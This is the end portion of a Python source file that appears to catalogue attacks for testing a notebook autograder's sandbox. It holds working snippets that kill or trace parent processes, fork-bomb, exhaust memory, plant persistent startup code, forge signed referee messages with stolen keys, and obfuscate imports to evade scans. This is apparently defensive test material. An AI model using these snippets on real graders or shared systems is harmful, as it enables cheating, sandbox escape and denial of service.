            TALK,
            """
            import glob
            from multiprocessing.connection import Client
            paths = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]]
            for pattern in ("/tmp/**/wire*", "/run/**"):
                paths += glob.glob(pattern, recursive=True)
            own = os.path.realpath(REFEREE._path)
            for path in {path.replace("@", "\\0") for path in paths if path[0] in "/@"}:
                try:
                    if os.path.realpath(path) != own:
                        with Wire(Client(path), REFEREE._key) as wire:
                            wire.send({"ask": "lstm_cell"})
                            follow(wire) if wire.poll(0.2) else None
                except (OSError, EOFError, ValueError):
                    continue
            """,
        ),
    ),
}

# ------------------------------------------------------------- the zygote and the other kernels

OTHERS = {
    "signals-its-parent": Attack(
        "Stops and kills the process that all kernels are forked from.",
        wrong(
            """
            import os, signal
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    if os.getppid() > 1:
                        os.kill(os.getppid(), number)
                except OSError as error:
                    print(error)
            """
        ),
    ),
    "signals-its-group": Attack(
        "Kills its own process group, with whatever else is in it.",
        wrong(
            """
            import os, signal

            def lstm_cell(**inputs):
                os.killpg(0, signal.SIGKILL)
            """
        ),
    ),
    "traces-its-parent": Attack(
        "Attaches to its parent as a debugger does.",
        wrong(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            print(libc.ptrace(16, os.getppid(), None, None), ctypes.get_errno())
            try:
                print(open(f"/proc/{os.getppid()}/mem", "r+b"))
            except OSError as error:
                print(error)
            """
        ),
    ),
    "dismisses-the-zygote": Attack(
        "Sends the zygote's goodbye over every descriptor that it has inherited.",
        wrong(
            """
            import os, socket
            for name in os.listdir("/proc/self/fd"):
                try:
                    end = socket.socket(fileno=os.dup(int(name)))
                    if end.type == socket.SOCK_SEQPACKET:
                        end.send(b"{}")
                        print("sent")
                except OSError:
                    continue
            """
        ),
    ),
    "outlives-itself": Attack(
        "Leaves a process in a session of its own, which waits for the next students.",
        wrong(
            TALK,
            f"""
            import glob
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for _ in range(100):
                        time.sleep(0.2)
                        open("/dev/shm/{MARK}", "w").close()
                        for path in glob.glob("/tmp/**/wire", recursive=True):
                            REFEREE = REFEREE.split("@")[0] + "@" + path
                            try:
                                ask()
                            except (OSError, EOFError, ValueError):
                                continue
                os._exit(0)
            """,
        ),
    ),
    "shared-memory": Attack(
        "Writes to shared memory, and runs what an earlier kernel has left there.",
        wrong(
            f"""
            import os
            from multiprocessing import shared_memory

            for path in ("/dev/shm/{MARK}", "/tmp/{MARK}", "/var/tmp/{MARK}", "/run/{MARK}"):
                try:
                    if os.path.exists(path):
                        exec(open(path).read())
                    with open(path, "w") as file:
                        file.write("lstm_cell = lambda x, h, c, *w, **k: torch.ops.aten.lstm_cell("
                                   "x, [h, c], *w, *k.values())")
                except OSError as error:
                    print(error)
            try:
                shared_memory.SharedMemory("{MARK}_block", create=True, size=2**20)
            except OSError as error:
                print(error)
            """
        ),
    ),
    "forks-without-end": Attack(
        "Uses up all process numbers.",
        wrong(
            """
            import os, time

            def lstm_cell(**inputs):
                while True:
                    if os.fork() == 0:
                        time.sleep(60)
            """
        ),
        waits=1,
    ),
    "eats-memory": Attack(
        "Uses up the memory in many processes.",
        wrong(
            """
            import os

            def lstm_cell(**inputs):
                return bytearray(2**40), bytearray(2**33)
            """
        ),
    ),
    "pages-of-others": Attack(
        "Writes to the libraries that all kernels have mapped.",
        wrong(
            """
            import mmap, pathlib
            import autograder
            for path in (
                pathlib.Path(torch.__file__).parent / "lib" / "libtorch_cpu.so",
                pathlib.Path(autograder.__file__).parent / "student.py",
            ):
                try:
                    with open(path, "r+b") as file:
                        pages = mmap.mmap(file.fileno(), 4096)
                        pages[0] = pages[0]
                        print("written")
                except (OSError, ValueError) as error:
                    print(error)
            """
        ),
    ),
}

# ------------------------------------------------------------- leaving something for the next


def leaving(*paths: str) -> dict[str, str]:
    """Try to write a file, named by a Python expression, that another kernel would run."""
    return wrong(
        f"""
        import os, pathlib, pwd, site, sys, sysconfig, tempfile
        import autograder.student

        home = pathlib.Path(pwd.getpwuid(0).pw_dir if os.path.exists("/etc/passwd") else "/root")
        packages = pathlib.Path(sysconfig.get_path("purelib"))
        package = pathlib.Path(autograder.__file__).parent
        real = os.path.expanduser("~")
        for path in ({", ".join(paths)},):
            try:
                path = pathlib.Path(path)
                path.parent.mkdir(parents=True, exist_ok=True)
                with path.open("a") as file:
                    file.write({("# " + MARK)!r})
                print("written:", path)
            except OSError as error:
                print(error)
        """
    )


LEAVING = {
    "leaves-a-module": Attack(
        "Writes a module into site-packages.", leaving(f"packages / '{MARK}.py'")
    ),
    "leaves-a-sitecustomize": Attack(
        "Writes a sitecustomize and a usercustomize.",
        leaving("packages / 'sitecustomize.py'", "packages / 'usercustomize.py'"),
    ),
    "leaves-code-in-the-package": Attack(
        "Writes into the package autograder and its cache of compiled files.",
        leaving(f"package / '{MARK}.py'", f"package / '__pycache__' / '{MARK}.pyc'"),
    ),
    "leaves-a-profile": Attack(
        "Writes a startup file into IPython's profile.",
        leaving(
            f"pathlib.Path(get_ipython().profile_dir.location) / 'startup' / '{MARK}.py'",
            f"home / '.ipython' / 'profile_default' / 'startup' / '{MARK}.py'",
            f"pathlib.Path(real) / '.ipython' / '{MARK}.py'",
        ),
    ),
    "leaves-temporary-files": Attack(
        "Writes wherever temporary files are.",
        leaving(
            f"pathlib.Path(tempfile.gettempdir()) / '{MARK}'",
            f"pathlib.Path('/tmp/{MARK}')",
            f"pathlib.Path('/var/tmp/{MARK}')",
            f"pathlib.Path('/dev/shm/{MARK}')",
            f"pathlib.Path(autograder.student._referee._path).parent / '{MARK}'",
        ),
    ),
    "leaves-bytecode": Attack(
        "Writes compiled files beside torch's and the assignment's modules.",
        leaving(
            f"pathlib.Path(torch.__file__).parent / '__pycache__' / '{MARK}.pyc'",
            f"pathlib.Path('__pycache__') / '{MARK}.pyc'",
            f"pathlib.Path(sys.executable).parent / '{MARK}'",
        ),
    ),
}

# ------------------------------------------------------------- public names only

OF_C = "from functools import partial, reduce\nfrom itertools import starmap"
STEPS = f"found = []\nsteps = filter(found.append, starmap(torch.lstm_cell, [({INPUTS})]))"
CALLBACK = f"found = []\ncall = lambda *given: found.append(torch.lstm_cell({INPUTS}))"

WEIGHTED = """
def answered(inputs):
    x, h, c, *weights = inputs
    outputs, total = torch.lstm_cell(x, (h, c), *weights), 0
    for k, leaf in enumerate(outputs):
        steps = torch.arange(leaf.numel(), dtype=torch.float64)
        factors = torch.cos(1.7 * steps + k + 1.0).reshape(leaf.shape).to(leaf.dtype)
        total = total + (leaf * factors).sum().to(torch.float64)
    return [value.detach() for value in outputs], torch.autograd.grad(total, inputs)
"""

LOADER = f"""
from torch.utils.data import DataLoader, Dataset
honest, jobs, stream = check, [[]], []

class Work(Dataset):
    def __getitem__(self, job):
        if not job:
            return []
        dtype = torch.float64 if job[0] == "torch.float64" else torch.float32
        values = [torch.tensor(v, dtype=dtype, requires_grad=True) for v in job[1]]
        x, h, c, *weights = values
        found = torch.lstm_cell(x, (h, c), *weights)
        if job[2]:
            grads = [torch.tensor(v, dtype=dtype) for v in job[2]]
            found = torch.autograd.grad(found, values, grads)
        return [value.tolist() for value in found]

def forever():
    while True:
        yield jobs[0]

def ask(values, grads):
    jobs[0] = (str(values[0].dtype), [v.tolist() for v in values], [v.tolist() for v in grads])
    for _ in range(3):
        found = next(stream[0])
    return tuple(torch.tensor(v, dtype=values[0].dtype) for v in found)

class Remote(torch.autograd.Function):
    @staticmethod
    def forward(ctx, *inputs):
        ctx.save_for_backward(*inputs)
        return ask(inputs, ())

    @staticmethod
    def backward(ctx, *grads):
        return ask(ctx.saved_tensors, grads)

def start():
    how = dict(batch_size=None, num_workers=1, prefetch_factor=1, timeout=2, collate_fn=list)
    stream[:] = [iter(DataLoader(Work(), sampler=forever(), **how))]

def lstm_cell({SIGNATURE}):
    return Remote.apply({SIGNATURE})
"""

PUBLIC = {
    "callback-of-c": Attack(
        "Lets a tensor's apply_ call torch through functions that leave no frame.",
        by_torch(
            OF_C, f"{STEPS}\ntorch.zeros(1).apply_(partial(reduce, max, steps))\nreturn found[0]"
        ),
        computes=True,
    ),
    "hook-of-c": Attack(
        "Lets a backward pass call torch through functions that leave no frame.",
        by_torch(
            OF_C,
            f"""{STEPS}
start = torch.zeros((), requires_grad=True)
end = start * 2
end.register_hook(partial(reduce, max, steps))
end.backward(create_graph=True)
return found[0]
""",
        ),
        computes=True,
    ),
    "callback": Attack(
        "Calls it in a function that a tensor's apply_ calls, where no mode is active.",
        by_torch(body=f"{CALLBACK}\ntorch.zeros(1).apply_(lambda v: call() or v)\nreturn found[0]"),
        computes=True,
    ),
    "callback-of-two": Attack(
        "Calls it in a function that a tensor's map_ calls.",
        by_torch(
            body=f"""{CALLBACK}
torch.zeros(1).map_(torch.zeros(1), lambda v, w: call() or v)
return found[0]
"""
        ),
        computes=True,
    ),
    "array": Attack(
        "Calls it where numpy asks an object for its array.",
        by_torch(
            """
            import numpy as np

            class Array:
                def __array__(self, *arguments, **options):
                    self.call()
                    return np.zeros(1)
            """,
            f"""{CALLBACK}
array = Array()
array.call = call
np.asarray(array)
return found[0]
""",
        ),
        computes=True,
    ),
    "checkpoint": Attack(
        "Lets torch's checkpoints call it.",
        by_torch(
            "from torch.utils.checkpoint import checkpoint",
            f"return checkpoint(torch.lstm_cell, {INPUTS}, use_reentrant=False)",
        ),
        computes=True,
    ),
    "vmap": Attack(
        "Calls it for every example of the batch, below torch.func.vmap.",
        by_torch(
            body="""
            def step(x, h, c):
                state = (h[None], c[None])
                h, c = torch.lstm_cell(x[None], state, weight_ih, weight_hh, bias_ih, bias_hh)
                return h[0], c[0]

            return torch.func.vmap(step)(x, h, c)
            """
        ),
        untried="Torch has no rule for it there.",
    ),
    "jvp": Attack(
        "Calls it below torch.func.jvp.",
        by_torch(
            body=f"""
            step = lambda {SIGNATURE}: torch.lstm_cell({INPUTS})
            inputs = ({SIGNATURE})
            return torch.func.jvp(step, inputs, tuple(map(torch.zeros_like, inputs)))[0]
            """
        ),
        computes=True,
    ),
    "saved-tensors": Attack(
        "Calls it when autograd saves a tensor.",
        by_torch(
            body=f"""{CALLBACK}
start = torch.ones((), requires_grad=True)
pack = lambda value: value if found else call() or value
with torch.autograd.graph.saved_tensors_hooks(pack, lambda value: value):
    start * start
return found[0]
"""
        ),
        untried="In a hook of autograd's no graph is made.",
    ),
    "module-hook": Attack(
        "Calls it in a hook of all modules.",
        by_torch(
            "from torch.nn.modules.module import register_module_forward_pre_hook as register",
            f"{CALLBACK}\nwith register(call):\n    torch.nn.Identity()(x)\nreturn found[0]",
        ),
        computes=True,
    ),
    "weak-reference": Attack(
        "Calls it when an object is gone.",
        by_torch(
            "import weakref\nclass Thing: pass",
            f"""{CALLBACK}
thing = Thing()
weakref.finalize(thing, call)
del thing
return found[0]
""",
        ),
        computes=True,
    ),
    "instance-check": Attack(
        "Calls it where isinstance asks a class.",
        by_torch(
            """
            class Kind(type):
                def __instancecheck__(cls, thing):
                    cls.call()
                    return True
            """,
            f"""{CALLBACK}
class Thing(metaclass=Kind): pass
Thing.call = call
isinstance(x, Thing)
return found[0]
""",
        ),
        computes=True,
    ),
    "listener": Attack(
        "Calls it in a thread that listens for messages to be logged.",
        by_torch(
            "import logging, queue, time\nfrom logging.handlers import QueueListener",
            f"""{CALLBACK}
handler, line = logging.Handler(), queue.Queue()
handler.emit = call
listener = QueueListener(line, handler)
listener.start()
line.put(logging.makeLogRecord(dict()))
listener.stop()
return found[0]
""",
        ),
        computes=True,
    ),
    "detach": Attack(
        "Returns a kind of tensor that is computed when it is detached or cloned.",
        wrong(
            """
            class Late(torch.Tensor):
                def clone(self, *arguments, **options):
                    return self.make()

                def detach(self):
                    return self.make()

            def lstm_cell(x, h, c, *weights, **more):
                weights = weights or tuple(more.values())
                outputs = h.as_subclass(Late), c.as_subclass(Late)
                for k, output in enumerate(outputs):
                    output.make = lambda k=k: torch.lstm_cell(x, (h, c), *weights)[k]
                return outputs
            """
        ),
    ),
    "finaliser-after-the-ban": Attack(
        "Ties an object to what the ban puts in a class, so that it ends just after the ban.",
        cell(
            f"""
            class Last:
                def __init__(self, inputs, outputs):
                    self.inputs, self.outputs = inputs, outputs

                def __del__(self):
                    for mine, right in zip(self.outputs, torch.lstm_cell(*self.inputs)):
                        mine.copy_(right)

            def lstm_cell({SIGNATURE}):
                outputs = torch.zeros_like(h), torch.zeros_like(c)
                forward = [torch.nn.LSTMCell.forward][0]
                forward.last = Last(({INPUTS}), outputs)
                return outputs
            """
        ),
    ),
    "broken-off-and-repeated": Attack(
        "Breaks the check off at each new case, computes its answer, and asks again.",
        cell(
            WEIGHTED,
            f"""
            honest, tasks, answers = check, [], []

            class Known(torch.autograd.Function):
                @staticmethod
                def forward(ctx, k, *inputs):
                    ctx.k = k
                    return tuple(value.clone() for value in answers[k][0])

                @staticmethod
                def backward(ctx, *grads):
                    return None, *answers[ctx.k][1]

            def lstm_cell({SIGNATURE}):
                inputs = ({SIGNATURE})
                for k, task in enumerate(tasks):
                    if task[0].shape == x.shape and torch.equal(task[0], x):
                        return Known.apply(k, *inputs)
                tasks.append([value.detach().clone().requires_grad_() for value in inputs])
                raise Later

            def then():
                answers.extend(map(answered, tasks[len(answers):]))
                honest("lstm_cell", lstm_cell)
            """,
            LATER,
        ),
    ),
    "loader": Attack(
        "Lets a worker of a DataLoader, which it starts in the grade cell, compute by torch.",
        cell(
            LOADER,
            """
            once = lstm_cell

            def lstm_cell(**inputs):
                if not stream:
                    raise Later
                return once(**inputs)

            def then():
                start()
                honest("lstm_cell", lstm_cell)
            """,
            LATER,
        ),
    ),
    "earlier-loader": Attack(
        "Lets a worker of a DataLoader, which it has started before, compute by torch.",
        cell(LOADER, "start()"),
    ),
}

# ------------------------------------------------------------- hiding code from the scan

DECOMPOSED = f"""
def lstm_cell({SIGNATURE}):
    gates = torch.nn.functional.linear(x, weight_ih, bias_ih)
    return decompositions.lstm_cell(gates, h, c, weight_hh, bias_hh, None, 1)
"""
HELPER = source("import torch\nfrom torch._decomp import decompositions", DECOMPOSED)
USE = "from helper import lstm_cell"


def hidden(*lines: str) -> Attack:
    """Get hold of the step that torch's decompositions are made of."""
    about = "Hides from the scan where its right answers come from."
    return Attack(about, cell(*lines, DECOMPOSED), computes=True)


def compiled(text: str) -> str:
    """Compile a module, to base64."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "helper.py"
        path.write_text(text, encoding="utf-8")
        return base64.b64encode(Path(py_compile.compile(str(path)) or "").read_bytes()).decode()


COMPILED = compiled(HELPER)


def helped(ending: str, using: str, text: str = HELPER) -> Callable[[Path], None]:
    """Hand in a module beside the notebook, as source or compiled, and a cell that uses it."""

    def apply(folder: Path) -> None:
        with notebook_in(folder) as notebook:
            named(notebook, "lstm-cell")["source"] = source(using)
        path = folder / "helper.py"
        path.write_text(text, encoding="utf-8")
        if ending == ".pyc":
            py_compile.compile(str(path), str(folder / "helper.pyc"))
            path.unlink()

    return apply


def behind_an_error(folder: Path) -> None:
    with notebook_in(folder) as notebook:
        named(notebook, "lstm-cell")["source"] = HELPER
        named(notebook, "lstm-layer")["source"] = "def ("


HIDING = {
    "helper": Attack("Hands in a module with its code.", helped(".py", USE)),
    "helper-loaded": Attack("Loads a cell from a file.", helped(".py", "%load helper.py\n" + USE)),
    "helper-run": Attack("Runs a file in its own namespace.", helped(".py", "%run -i helper.py")),
    "written-library": Attack(
        "Writes a module with the name of a library, and imports it.",
        cell(
            f"""
            with open("seaborn.py", "w") as file:
                print({HELPER!r}, file=file)
            import sys
            sys.path.insert(0, ".")
            from seaborn import lstm_cell
            """
        ),
        computes=True,
    ),
    "rewritten-helper": Attack(
        "Hands in a harmless module, and writes another one in its place.",
        helped(
            ".py",
            f"""
            with open("helper.py", "w") as file:
                print({HELPER!r}, file=file)
            {USE}
            """,
            text="def lstm_cell(): ...",
        ),
    ),
    "rewritten-helper-compiled": Attack(
        "Hands in a harmless module, and puts compiled code beside it.",
        helped(
            ".py",
            f"""
            import base64, pathlib, sys
            pathlib.Path("helper.pyc").write_bytes(base64.b64decode({COMPILED!r}))
            pathlib.Path("helper.py").rename("other.py")
            {USE}
            """,
            text="def lstm_cell(): ...",
        ),
    ),
    "run-by-a-library": hidden(
        "import sympy",
        "decompositions = sympy.sympify("
        "\"__import__('torch._decomp.decompositions', fromlist=['x'])\")",
    ),
    "logged-module": Attack(
        "Has a log written that is a module, and imports it.",
        cell(
            f"""
            import logging, sys
            sys.path.append("")
            logging.FileHandler("noted.py").emit(logging.makeLogRecord({{"msg": {HELPER!r}}}))
            from noted import lstm_cell
            """
        ),
        computes=True,
    ),
    "shelled-module": Attack(
        "Has another program put a module there, and imports it.",
        cell(
            f"""
            import subprocess, sys
            sys.path.append("")
            subprocess.run(["tee", "noted.py"], input={HELPER!r}, text=True)
            from noted import lstm_cell
            """
        ),
        computes=True,
    ),
    "hidden-in-unicode": hidden("from torch._\uff44ecomp import decompositions"),
    "hidden-in-continued-lines": hidden("from torch\\\n._decomp \\\nimport decompositions"),
    "hidden-in-an-f-string": hidden(
        "decompositions = getattr(getattr(torch, f\"_{f'{chr(100)}ecomp'}\"), 'decompositions')"
    ),
    "hidden-in-a-timed-text": hidden(
        "import timeit",
        "timeit.timeit('global decompositions; from torch._decomp import decompositions', "
        "number=1, globals=globals())",
    ),
    "hidden-in-a-long-cell": hidden("#" * 200_001, "from torch._decomp import decompositions"),
    "hidden-in-depth": hidden(
        "deep = " + "-" * 900 + "1", "from torch._decomp import decompositions"
    ),
    "hidden-in-an-object": hidden(
        "class Box: pass",
        "box = Box()\nbox.name = ''.join(['_de', 'comp'])",
        "decompositions = vars(vars(torch)[box.name])['decompositions']",
    ),
    "hidden-in-a-magic": Attack(
        "Puts its code below a magic.",
        helped(".py", "%%capture\n" + HELPER),
    ),
    "hidden-behind-an-error": Attack(
        "Hands in another cell that nobody can read, beside one that reaches into torch.",
        behind_an_error,
    ),
}

# ------------------------------------------------------------- the key of the wire

FORGE = """
import glob, hashlib, json, struct
from logging.handlers import SocketHandler
honest = check

def exactly(line, count):
    text = b""
    while len(text) < count:
        more = line.recv(count - len(text))
        if not more:
            raise EOFError
        text += more
    return text

def get(line):
    return exactly(line, struct.unpack("!i", exactly(line, 4))[0])

def pack(header, tensors=()):
    blob, about = b"", dict()
    for dtype, short in ((torch.float32, "F32"), (torch.float64, "F64")):
        mine = [t.reshape(-1) for t in tensors if t.dtype == dtype]
        if mine:
            data = torch.cat(mine).numpy().tobytes()
            ends = [len(blob), len(blob) + len(data)]
            shape = [sum(map(len, mine))]
            about[str(dtype)] = dict(dtype=short, shape=shape, data_offsets=ends)
            blob += data
    header, about = json.dumps(header).encode(), json.dumps(about).encode()
    lengths = struct.pack(">I", len(header)), struct.pack("<Q", len(about))
    return lengths[0] + header + lengths[1] + about + blob

def unpack(frame):
    count = struct.unpack_from(">I", frame)[0]
    header, blob = dict(json.loads(frame[4 : 4 + count])["items"]), frame[4 + count :]
    count = struct.unpack_from("<Q", blob)[0]
    left = dict()
    for name, part in json.loads(blob[8 : 8 + count]).items():
        first, last = part["data_offsets"]
        dtype = torch.float64 if part["dtype"] == "F64" else torch.float32
        data = bytearray(blob[8 + count :][first:last])
        left[name] = torch.frombuffer(data, dtype=dtype)
    return header, left

def tensors(values):
    form = lambda v: {"$": "tensor", "dtype": str(v.dtype), "shape": list(v.shape), "permuted": 0}
    return [form(value) for value in values]

def forge(key, path):
    line = SocketHandler(path, None).makeSocket(1)
    name, sent = get(line), 0
    message = pack({"$": "dict", "items": [["ask", "lstm_cell"]]})
    while True:
        about = name + b"K" + struct.pack(">I", sent)
        seal = key.copy()
        seal.update(about + message)
        sealed = seal.digest() + message
        line.sendall(struct.pack("!i", len(sealed)) + sealed)
        sent += 1
        header, left = unpack(get(line)[32:])
        if "case" not in header:
            return line.close()
        inputs = dict()
        for part, how in dict(dict(header["case"]["items"])["inputs"]["items"]).items():
            count = torch.Size(how["shape"]).numel()
            flat = left[how["dtype"]]
            inputs[part], left[how["dtype"]] = flat[:count].reshape(how["shape"]), flat[count:]
        outputs, grads = answered([value.requires_grad_() for value in inputs.values()])
        items = dict.fromkeys(("parameters", "failure", "backward_failed"))
        items |= {"modified": [], "forbidden": [], "callable": True}
        items["outputs"] = {"$": "tuple", "items": tensors(outputs)}
        items["gradients"] = {"$": "dict", "items": [*zip(inputs, tensors(grads))]}
        message = pack({"$": "dict", "items": [*items.items()]}, [*outputs, *grads])

def use(address):
    if isinstance(address, str):
        key, _, path = address.partition("@")
        forge(hashlib.blake2b(key=bytes.fromhex(key), digest_size=32), path)
    else:
        forge(address._key, address._path)
"""


def with_key(*setup: str) -> dict[str, str]:
    """Write a check that answers by itself, with what ``address()`` finds."""
    return cell(WEIGHTED, FORGE, *setup, "then = lambda: use(address())", LATER, RAISING)


KEY = {
    "key-in-a-format": Attack(
        "Finds the key in the globals of check, by a format.",
        with_key("address = lambda: '{0.__globals__[_referee]}'.format(honest)"),
    ),
    "key-by-a-joined-name": Attack(
        "Finds the key in the globals of check.",
        with_key(
            "name = '_'.join(['', '', 'globals', '', ''])",
            "address = lambda: getattr(honest, name)['_referee']",
        ),
    ),
    "key-in-a-module": Attack(
        "Finds the key in the package's module.",
        with_key("import sys", "address = lambda: sys.modules[honest.__module__]._referee"),
    ),
    "key-in-a-wire": Attack(
        "Finds the key in the package's open wire, and the path in the process.",
        with_key(
            """
            import autograder.student

            def address():
                honest("lstm_layer", None)
                wire = autograder.student._wire
                wire.close()
                autograder.student._wire = None
                wire._path = glob.glob('/run/**/wire', recursive=True)[0]
                return wire
            """
        ),
    ),
    "key-in-frames": Attack(
        "Finds the key in the frames below its own, by a format.",
        cell(
            WEIGHTED,
            FORGE,
            f"""
            found = []

            def lstm_cell({SIGNATURE}):
                try:
                    1 / 0
                except ZeroDivisionError as error:
                    for depth in range(30):
                        form = "{{0.__traceback__.tb_frame" + ".f_back" * depth
                        try:
                            found.append((form + ".f_globals[_referee]}}").format(error))
                            break
                        except (KeyError, AttributeError):
                            continue
                raise Later
            """,
            "then = lambda: use(found[-1])",
            LATER,
        ),
    ),
    "key-in-the-environment": Attack(
        "Looks for the key in the environment, as it was when the kernel began.",
        with_key(
            """
            import pathlib, re

            def address():
                text = pathlib.Path("/proc/self/environ").read_text(errors="replace")
                return re.findall("AUTOGRADER_WIRE=([^\\\\0]*)", text)[0]
            """
        ),
    ),
    "no-key": Attack(
        "Speaks without a key, on whatever socket there is.",
        with_key(
            "found = [p for d in ('/run/**', '/tmp/**') for p in glob.glob(d, recursive=True)]",
            "address = lambda: '00@' + [path for path in found if path.endswith('wire')][0]",
        ),
    ),
    "no-key-but-a-record": Attack(
        "Records the sealed frames of a check, and sends them once more on a line of its own.",
        wrong(
            """
            from multiprocessing.connection import Client, Connection
            import autograder.student
            honest, said, send = check, [], Connection.send_bytes

            def record(self, frame, *more):
                said.append(bytes(frame))
                return send(self, frame, *more)

            def check(question, obj):
                Connection.send_bytes = record
                try:
                    honest(question, lambda **inputs: 1 / 0)
                finally:
                    Connection.send_bytes = send
                with Client(autograder.student._referee._path) as line:
                    for frame in said:
                        send(line, frame)
                        line.poll(0.1) and line.recv_bytes()
            """
        ),
    ),
}

FAMILIES: dict[str, dict[str, Attack]] = {
    "replacing what judges": REPLACING,
    "IPython": IPYTHON,
    "what is returned": RETURNED,
    "forging on the wire": WIRE,
    "forging what is handed in": FILES,
    "reading what others know": READING,
    "the caller and its objects": CALLER,
    "torch under another name": NAMES,
    "torch where nobody watches": UNWATCHED,
    "timing and trying again": TIMING,
    "the network": NETWORK,
    "the zygote and the other kernels": OTHERS,
    "leaving something for the next": LEAVING,
    "public names only": PUBLIC,
    "hiding code from the scan": HIDING,
    "the key of the wire": KEY,
}
"""The attacks by family."""

ATTACKS: dict[str, Attack] = {
    name: attack for family in FAMILIES.values() for name, attack in family.items()
}
"""All attacks by name."""
